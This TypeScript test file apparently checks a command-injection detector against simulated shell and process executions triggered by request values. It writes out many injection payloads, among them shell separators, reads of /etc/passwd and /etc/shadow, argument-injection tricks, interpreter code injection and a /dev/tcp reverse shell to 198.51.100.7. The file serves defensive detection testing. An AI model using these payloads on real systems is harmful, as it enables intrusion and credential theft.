import assert from 'node:assert/strict';
import { test } from 'node:test';

import fc from 'fast-check';

import type { ExecEffect } from '../../model/effect.ts';
import type { Detection } from '../../model/finding.ts';
import type { Request, RequestInput } from '../../model/request.ts';
import {
  fastestMs,
  makeExec,
  makeInput,
  makeProcess,
  makeRequest,
  makeShell,
  percentEncode,
  requestWith,
} from '../testing.ts';
import { createCommandInjection } from './index.ts';

function detect(effect: ExecEffect): Detection | undefined {
  const detections = createCommandInjection().onEffect?.(effect) ?? [];
  assert.ok(detections.length <= 1);
  return detections[0];
}

/** Verdict and class of an exec that one request with this value caused. */
function verdict(effect: ExecEffect): string {
  const detection = detect(effect);
  return detection === undefined ? 'nothing' : `${detection.verdict} ${detection.class}`;
}

const EXPLOITED = 'EXPLOITED command-injection';

/** The value, the command line that a careless application makes of it, what it comes to. */
const ATTACKS: readonly (readonly [value: string, line: string, note: RegExp])[] = [
  ['127.0.0.1;id', 'ping -c 1 127.0.0.1;id', /starts a new command `id` after `;`/],
  ['a; id', 'ping a; id', /`id` after `;`/],
  ['a|id', 'ping a|id', /`id` after `\|`/],
  ['a || id', 'ping a || id -c 1', /`id` after `\|\|`/],
  ['a && id', 'ping a && id', /`id` after `&&`/],
  ['a & id', 'ping a & id', /`id` after `&`/],
  ['a\nid', 'ping a\nid', /`id` after a line end/],
  ['a;id #', 'ping a;id # > /dev/null', /`id` after `;`/],
  ['$(id)', 'ping $(id)', /runs `id` in a substitution opened by `\$\(`/],
  ['`id`', 'ping `id`', /runs `id` in a substitution opened by ```/],
  ['$(id)', 'ping "$(id)"', /runs `id`/],
  ['`id`', 'echo "hello `id`"', /runs `id`/],
  ['${x:-$(id)}', 'ping ${x:-$(id)}', /runs `id`/],
  ["a';id;'", "ping 'a';id;''", /`id` after `;`/],
  ["';id;#", "ping '';id;#' -c 1", /`id` after `;`/],
  ['a";id;"', 'ping "a";id;""', /`id` after `;`/],
  ['a > /srv/www/x.php', 'echo a > /srv/www/x.php', /redirects with `>` to `\/srv\/www\/x.php`/],
  ['a < /etc/shadow', 'wc a < /etc/shadow', /redirects with `<` to `\/etc\/shadow`/],
  [
    'a;cat${IFS}/etc/passwd',
    'ping a;cat${IFS}/etc/passwd',
    /starts a new command `cat\$\{IFS\}\/etc\/passwd`/,
  ],
  ['a;{id,-u}', 'ping a;{id,-u}', /after `;`/],
  ['a;(id)', 'ping a;(id)', /`id`/],
  ['a;x=1 id', 'ping a;x=1 id', /`id`/],
  ['a;if id;then id;fi', 'ping a;if id;then id;fi', /`id`/],
  ['a\nEOF\nid', 'cat <<EOF\na\nEOF\nid\nEOF', /`id` after a line end/],
  ['x id', 'NAME=x id', /starts the command `id` after a blank/],
  ['whoami', 'cd /srv && whoami', /names the program `whoami`/],
  ['/bin/ls', 'cd /srv && /bin/ls', /names the program/],
  ['cat /etc/passwd', 'timeout=5; cat /etc/passwd', /names the program `cat`/],
  ['../../bin/sh', '/opt/tools/../../bin/sh -v', /names the program/],
  ['a;sleep 5', 'ping a;sleep 5 2>&1', /`sleep`/],
  [
    'a;bash -i >& /dev/tcp/198.51.100.7/4444 0>&1',
    'ping a;bash -i >& /dev/tcp/198.51.100.7/4444 0>&1',
    /`bash`/,
  ],
  [' a;id ', 'ping a;id', /`id` after `;`/],
];

for (const [value, line, note] of ATTACKS) {
  test(`attack: ${JSON.stringify(line)}`, () => {
    const detection = detect(makeShell(line, [requestWith(value)]));
    assert.equal(detection?.verdict, 'EXPLOITED');
    assert.equal(detection.class, 'command-injection');
    assert.equal(detection.severity, 'critical');
    assert.deepEqual(detection.cwe, [78]);
    const evidence = detection.evidence[0];
    assert.match(evidence?.note ?? '', note);
    assert.equal(evidence?.sink, 'argv[2]');
    assert.equal(line.slice(evidence.offset, evidence.offset + evidence.value.length), evidence.value);
    assert.equal(evidence.source, 'query parameter q');
  });
}

/** The same payloads where the application keeps them data. */
const PAYLOADS = [
  '127.0.0.1;id',
  "a';id;'",
  'a|id',
  '$(id)',
  '`id`',
  'a\nid',
  'a && id',
  'a > /tmp/x',
  '";id;"',
  "'$(id)'",
  'a;id #',
];

const SAFELY: readonly (readonly [
  name: string,
  exec: (value: string, by: readonly Request[]) => ExecEffect,
])[] = [
  ['single quotes', (value, by) => makeShell(`ping -c 1 '${value.replaceAll("'", "'\\''")}'`, by)],
  ["quoted as Python's shlex does", (value, by) => makeShell(`ping '${value.replaceAll("'", `'"'"'`)}'`, by)],
  [
    'backslashes',
    (value, by) => makeShell(`ping ${value.replace(/[^\w\n]/g, '\\$&').replaceAll('\n', "'\n'")}`, by),
  ],
  ['double quotes, escaped', (value, by) => makeShell(`ping "${value.replace(/[$`"\\]/g, '\\$&')}"`, by)],
  ['one argument, no shell', (value, by) => makeExec(['ping', '-c', '1', value], by)],
  ['after --', (value, by) => makeExec(['grep', '-r', '--', value], by)],
  [
    'a positional parameter',
    (value, by) => makeShell('ping "$1"', by, { argv: ['sh', '-c', 'ping "$1"', 'sh', value] }),
  ],
  ['the environment', (_, by) => makeShell('ping "$TARGET"', by)],
  ['a quoted here-document', (value, by) => makeShell(`cat <<'EOF'\n${value}\nEOF\n`, by)],
  ['env and one argument', (value, by) => makeExec(['env', 'A=1', 'ping', value], by)],
  ['a comment without line ends', (value, by) => makeShell(`# ${value.replaceAll('\n', ' ')}\nping`, by)],
  ['ssh with one argument', (value, by) => makeExec(['git', 'log', `--author=${value}`], by)],
];

for (const [name, exec] of SAFELY) {
  for (const value of PAYLOADS) {
    test(`safe twin, ${name}: ${JSON.stringify(value)}`, () => {
      assert.equal(verdict(exec(value, [requestWith(value)])), 'nothing');
    });
  }
}

/** What ordinary requests cause, with values that stand in the command by design or by chance. */
const ORDINARY: readonly (readonly [target: string, argv: readonly string[]])[] = [
  ['/ping?host=example.com', ['sh', '-c', 'ping -c 1 example.com']],
  ['/ping?host=192.0.2.7', ['sh', '-c', 'ping -c 1 192.0.2.7']],
  ['/api/ping?count=3', ['ping', '-c', '3', 'localhost']],
  ['/convert?from=a.png&to=b.jpg', ['sh', '-c', 'convert a.png b.jpg && rm a.png']],
  ['/convert?tool=convert', ['convert', 'a.png', 'b.jpg']],
  ['/tools/curl?x=1', ['curl', 'https://example.com']],
  ['/whoami', ['sh', '-c', 'whoami']],
  ['/bin/ls', ['ls', '-l']],
  ['/git?ref=main&path=src', ['sh', '-c', "git show 'main:src' | head -n 50"]],
  ['/log?level=info', ['sh', '-c', 'grep info app.log | tail']],
  ['/x?sort=id', ['sh', '-c', "psql -c 'select id from t' | cat"]],
  ['/x?cmd=ls', ['ls', '-l', '/srv']],
  ['/x?q=cat', ['sh', '-c', 'cat a.txt | wc -l']],
  ['/x?q=-5', ['units', '-5']],
  ['/x?q=-12.5', ['seq', '-12.5', '1']],
  ['/x?q=%3B', ['sh', '-c', 'a; b']],
  ['/x?q=%26%26', ['sh', '-c', 'a && b']],
  ['/x?q=a%3B', ['sh', '-c', 'echo a; ls']],
  ['/x?q=%24HOME', ['sh', '-c', 'ls "$HOME"']],
  ['/x?q=price+%245', ['sh', '-c', 'echo "price $5"']],
  ['/x?name=O%27Brien', ['sh', '-c', `echo "O'Brien"`]],
  ['/x?q=two+words', ['sh', '-c', 'grep "two words" file; date']],
  ['/x?q=two+words', ['sh', '-c', 'echo two words']],
  ['/x?q=*.txt', ['sh', '-c', 'ls *.txt']],
  ['/x?q=a%0A', ['sh', '-c', 'echo a\ndate\n']],
  ['/x?shell=bash', ['sh', '-c', 'grep -c bash /etc/shells']],
  ['/x?v=-v', ['echo', '-v']],
  ['/x?q=-foo', ['grep', '-e', '-foo', 'file']],
  ['/x?tool=gzip', ['sh', '-c', '/opt/tools/gzip -9 x']],
  ['/x?code=print', ['python3', '-c', 'print(1)']],
  ['/x?q=hello', ['node', '-e', "console.log('hello')"]],
  ['/x?q=it%27s+(ok)', ['python3', '-c', 'print("it\'s (ok)")']],
  ['/static/app.js', ['node', 'worker.js', '/static/app.js']],
];

for (const [target, argv] of ORDINARY) {
  test(`ordinary: ${target} runs ${JSON.stringify(argv)}`, () => {
    assert.equal(verdict(makeExec(argv, [makeRequest({ target })])), 'nothing');
  });
}

test('a shell in every dress', () => {
  const request = requestWith('a;id');
  const dresses: readonly (readonly [argv: readonly string[], path: string, executable?: string])[] = [
    [['sh', '-c', 'p a;id'], '/bin/sh', '/usr/bin/dash'],
    [['sh', '-c', '--', 'p a;id'], '/bin/sh'],
    [['bash', '-lc', 'p a;id'], '/usr/bin/bash'],
    [['bash', '-e', '-c', 'p a;id'], '/usr/bin/bash'],
    [['bash', '-ec', 'p a;id'], '/usr/bin/bash'],
    [['bash', '-c', '-e', 'p a;id'], '/usr/bin/bash'],
    [['bash', '-eo', 'pipefail', '-c', 'p a;id'], '/usr/bin/bash'],
    [['bash', '--norc', '-c', 'p a;id'], '/usr/bin/bash'],
    [['bash', '--rcfile', 'x', '-c', 'p a;id'], '/usr/bin/bash'],
    [['-bash', '-c', 'p a;id'], '/usr/bin/bash'],
    [['zsh', '-c', 'p a;id'], '/usr/bin/zsh'],
    [['ksh', '-c', 'p a;id'], '/usr/bin/ksh93'],
    [['busybox', 'sh', '-c', 'p a;id'], '/bin/busybox'],
    [['sh', '-c', 'p a;id'], '/bin/sh', '/bin/busybox'],
    [['ash', '-c', 'p a;id'], '/bin/ash', '/bin/busybox'],
    [['env', 'sh', '-c', 'p a;id'], '/usr/bin/env'],
    [['env', '-i', 'A=1', '-u', 'B', 'bash', '-c', 'p a;id'], '/usr/bin/env'],
  ];
  for (const [argv, path, executable] of dresses) {
    const effect = makeExec(argv, [request], { path, executable: executable ?? path });
    assert.equal(verdict(effect), EXPLOITED, JSON.stringify(argv));
    const sink = detect(effect)?.evidence[0]?.sink;
    assert.equal(sink, `argv[${argv.indexOf('p a;id')}]`);
  }
});

test('a script is no shell command line, whatever its interpreter', () => {
  const request = requestWith('a;id');
  const effect = makeExec(['./run.sh', '-c', 'a;id'], [request], {
    path: './run.sh',
    executable: '/usr/bin/dash',
  });
  assert.equal(verdict(effect), 'nothing');
});

test('a line that the shell refuses runs nothing: suspicious', () => {
  const detection = detect(makeShell("ping 'a';id'", [requestWith("a';id")]));
  assert.equal(detection?.verdict, 'SUSPICIOUS');
  assert.match(detection.evidence[0]?.note ?? '', /an open quote/);
});

test('a command line that was cut by the capture limit is not taken for a refused one', () => {
  const effect = makeShell("ping a;id 'x", [requestWith('a;id')], { argvTruncated: true });
  assert.equal(verdict(effect), EXPLOITED);
});

test('a value that is the whole command line: suspicious, by design or not', () => {
  for (const value of ['npm ci && npm test', 'cat /etc/passwd', 'whoami', 'id; uname -a', 'ls -l /srv']) {
    const detection = detect(makeShell(value, [requestWith(value)]));
    assert.equal(detection?.verdict, 'SUSPICIOUS', value);
    assert.match(detection.evidence[0]?.note ?? '', /whole command line/);
  }
});

test('what such a shell runs itself is not reported again', () => {
  const detector = createCommandInjection();
  const request = requestWith('whoami');
  const shell = makeShell('whoami', [request]);
  assert.equal(detector.onEffect?.(shell)[0]?.verdict, 'SUSPICIOUS');
  const child = makeProcess({ pid: 5000, parent: shell.process, parentPid: shell.pid });
  assert.deepEqual(detector.onEffect?.(makeExec(['whoami'], [request], { pid: 5000, process: child })), []);
  const same = makeExec(['whoami'], [request], { pid: shell.pid });
  assert.deepEqual(detector.onEffect?.(same), []);
});

test('the request names the program', () => {
  assert.equal(verdict(makeExec(['x', '-v'], [requestWith('/bin/bash')], { path: '/bin/bash' })), EXPLOITED);
  assert.equal(verdict(makeExec(['bash'], [requestWith('bash')])), EXPLOITED);
  assert.equal(verdict(makeExec(['x'], [requestWith('/tmp/x')], { path: '/tmp/x' })), EXPLOITED);
  assert.equal(
    verdict(makeExec(['x'], [requestWith('../../../bin/nc')], { path: '/opt/t/../../../bin/nc' })),
    EXPLOITED,
  );
  assert.equal(verdict(makeExec(['ffmpeg'], [requestWith('ffmpeg')])), 'nothing');
  assert.equal(verdict(makeExec(['x'], [requestWith('../t/x12')], { path: '/opt/t/../t/x12' })), 'nothing');
});

test('argument injection', () => {
  const suspicious = 'SUSPICIOUS argument-injection';
  const request = requestWith('-oProxyCommand=id');
  assert.equal(verdict(makeExec(['ssh', '-oProxyCommand=id', 'host'], [request])), suspicious);
  assert.equal(verdict(makeExec(['ssh', '--', '-oProxyCommand=id'], [request])), 'nothing');
  assert.equal(verdict(makeExec(['ssh', 'x-oProxyCommand=id'], [request])), 'nothing');
  assert.equal(
    verdict(
      makeExec(
        ['tar', 'cf', 'x', '--checkpoint-action=exec=id'],
        [requestWith('--checkpoint-action=exec=id')],
      ),
    ),
    suspicious,
  );
  const detection = detect(makeExec(['ssh', '-oProxyCommand=id', 'host'], [request]));
  assert.deepEqual(detection?.cwe, [88]);
  assert.equal(detection?.evidence[0]?.sink, 'argv[1]');
  const positional = makeExec(['sh', '-c', 'a "$1"', 'sh', '-oProxyCommand=id'], [request]);
  assert.equal(verdict(positional), 'nothing');
});

test('code injection into interpreters', () => {
  const table: readonly (readonly [argv: readonly string[], value: string, expected: string])[] = [
    [
      ['python3', '-c', "print('a');import os;os.system('id')#')"],
      "a');import os;os.system('id')#",
      'EXPLOITED code-injection',
    ],
    [
      ['node', '-e', 'f("a");require("child_process").exec("id");("")'],
      'a");require("child_process").exec("id");("',
      'EXPLOITED code-injection',
    ],
    [['php', '-r', 'echo strlen(system("id"));'], 'system("id")', 'SUSPICIOUS code-injection'],
    [['perl', '-we', 'print "@{[`id`]}"'], '@{[`id`]}', 'SUSPICIOUS code-injection'],
    [['ruby', '-e', 'puts "#{`id`}"'], '#{`id`}', 'SUSPICIOUS code-injection'],
    [['python3', '-c', "print('a;b(c)')"], 'a;b(c)', 'nothing'],
    [['python3', '-c', 'import sys; print(sys.argv[1])', 'a);b('], 'a);b(', 'nothing'],
    [['python3', '-W', 'ignore', '-c', 'f(g(1));h(2)'], 'g(1));h(2', 'SUSPICIOUS code-injection'],
    [['python3', 'script.py', '-c', 'g(1));h(2'], 'g(1));h(2', 'nothing'],
    [['php', '-r', "echo 'it\\'s;x()';"], "it's;x()", 'nothing'],
  ];
  for (const [argv, value, expected] of table) {
    assert.equal(verdict(makeExec(argv, [requestWith(value)])), expected, JSON.stringify(argv));
  }
});

test('every place that a client controls', () => {
  const places: readonly (readonly [RequestInput['location'], string])[] = [
    ['path', 'path segment q'],
    ['query', 'query parameter q'],
    ['form', 'form field q'],
    ['json', 'JSON value q'],
    ['multipart', 'multipart field q'],
    ['cookie', 'cookie q'],
    ['header', 'header q'],
    ['body', 'body q'],
  ];
  for (const [location, source] of places) {
    const request = makeRequest({ inputs: [makeInput('a%3Bid', location)] });
    assert.equal(detect(makeShell('ping a;id', [request]))?.evidence[0]?.source, source);
  }
});

test('encoded twice', () => {
  const request = makeRequest({ target: `/x?q=${percentEncode(percentEncode('a;id'))}` });
  assert.equal(verdict(makeShell('ping a;id', [request])), EXPLOITED);
});

test('an ambiguous effect names the one request that carries the bytes', () => {
  const attack = requestWith('a;id');
  const detection = detect(makeShell('ping a;id', [requestWith('b'), attack, requestWith('c')]));
  assert.equal(detection?.verdict, 'EXPLOITED');
  assert.equal(detection.request, attack);
});

test('identical attacks in flight: proof without a name', () => {
  const detection = detect(
    makeShell('ping a;id', [requestWith('a;id'), requestWith('b'), requestWith('a;id')]),
  );
  assert.equal(detection?.verdict, 'EXPLOITED');
  assert.equal(detection.request, null);
  assert.match(detection.evidence[0]?.note ?? '', /2 requests in flight/);
});

test('an effect of no request is nothing', () => {
  assert.deepEqual(createCommandInjection().onEffect?.(makeShell('ping a;id', [])), []);
});

test('titles and notes are safe to print', () => {
  const value = 'a;\x1b[31mid\u0007';
  const detection = detect(makeShell(`ping ${value}`, [requestWith(value)]));
  assert.equal(detection?.verdict, 'EXPLOITED');
  // eslint-disable-next-line no-control-regex
  assert.doesNotMatch(detection.title + (detection.evidence[0]?.note ?? ''), /[\u0000-\u001f]/);
});

test('a body that is still arriving brings needles later', () => {
  const inputs: RequestInput[] = [];
  let body = new Uint8Array(0);
  const plain = makeRequest();
  const message = Object.defineProperties(
    { ...plain.message },
    { body: { get: () => body }, inputs: { get: () => inputs } },
  );
  const request: Request = { ...plain, message };
  const detector = createCommandInjection();
  assert.deepEqual(detector.onEffect?.(makeShell('ping a;id', [request])), []);
  body = new Uint8Array(8);
  inputs.push(makeInput('a;id', 'form'));
  assert.equal(detector.onEffect?.(makeShell('ping a;id', [request]))[0]?.verdict, 'EXPLOITED');
});

const bytes = fc.uint8Array({ maxLength: 120 }).map((value) => Buffer.from(value).toString('latin1'));
const syntax = fc
  .array(fc.constantFrom("'", '"', ';', '$(', ')', '`', '\n', ' ', 'id', '-x', '/', '..', '\\'), {
    maxLength: 12,
  })
  .map((pieces) => pieces.join(''));
const value = fc.oneof(bytes, syntax);

test('any needles in any arguments: never throws', () => {
  const names = fc.constantFrom('sh', 'bash', 'env', 'busybox', 'python3', 'node', 'ping', '');
  const options = fc.array(fc.oneof(fc.constantFrom('-c', '-e', '--', '-o', '-'), value), { maxLength: 5 });
  fc.assert(
    fc.property(fc.array(value, { maxLength: 5 }), names, options, value, (values, name, argv, tail) => {
      const request = makeRequest({ inputs: values.map((one) => makeInput(one)) });
      const all = [name, ...argv, `a ${values.join(' ')}${tail}`];
      for (const detection of createCommandInjection().onEffect?.(makeExec(all, [request])) ?? []) {
        const evidence = detection.evidence[0];
        assert.ok(evidence !== undefined);
        assert.equal(evidence.sinkValue?.substr(evidence.offset, evidence.value.length), evidence.value);
      }
    }),
    { numRuns: 2000 },
  );
});

test('a value in single quotes is never more than nothing', () => {
  fc.assert(
    fc.property(value, (one) => {
      if (one.includes('\0')) return;
      const line = `ping '${one.replaceAll("'", "'\\''")}'`;
      // A value such as `ping` is the program's name by chance; that is tested elsewhere.
      if ('ping'.includes(one.trim())) return;
      assert.equal(verdict(makeShell(line, [makeRequest({ inputs: [makeInput(one)] })])), 'nothing');
    }),
    { numRuns: 2000 },
  );
});

test('linear time: 8 KiB needles in 32 KiB of arguments', () => {
  const half = 'a'.repeat(4096);
  const needles = [
    'a'.repeat(8192),
    `${half}b${half}`,
    `b${half}${half}`,
    ';a'.repeat(4096),
    `${';id'.repeat(2700)}x`,
    '\'"'.repeat(4096),
  ];
  const texts = [
    'a'.repeat(32_000),
    ';a'.repeat(16_000),
    ';id'.repeat(10_000),
    '\'"'.repeat(16_000),
    '$('.repeat(16_000),
  ];
  for (const needle of needles) {
    for (const text of texts) {
      const request = makeRequest({ inputs: [makeInput(needle)] });
      const detector = createCommandInjection();
      for (const name of ['sh', 'python3']) {
        const effect = makeExec([name, '-c', text], [request]);
        const took = fastestMs(() => void detector.onEffect?.(effect));
        assert.ok(took < 50, `${needle.slice(0, 4)} in ${name} ${text.slice(0, 4)}: ${took.toFixed(1)} ms`);
      }
    }
  }
});

test('256 inputs in 32 KiB of shell', () => {
  const inputs = Array.from({ length: 400 }, (_, index) => makeInput(`;${index} a`));
  const effect = makeShell(
    inputs
      .map(({ value: one }) => one)
      .join('x')
      .repeat(10)
      .slice(0, 32_000),
    [makeRequest({ inputs })],
  );
  assert.ok(fastestMs(() => void detect(effect)) < 200);
});

test('a shell run by a request whose head was cut is SUSPICIOUS, one with a long body is not', () => {
  const run = (anomalies: readonly string[]): string => {
    const request = makeRequest({ target: '/resize?w=100' });
    const cut: Request = { ...request, message: { ...request.message, isTruncated: true, anomalies } };
    return verdict(makeShell('convert in.png -resize 100 out.png', [cut]));
  };
  assert.equal(run(['cut-head']), 'SUSPICIOUS command-injection');
  assert.equal(run([]), 'nothing');
});
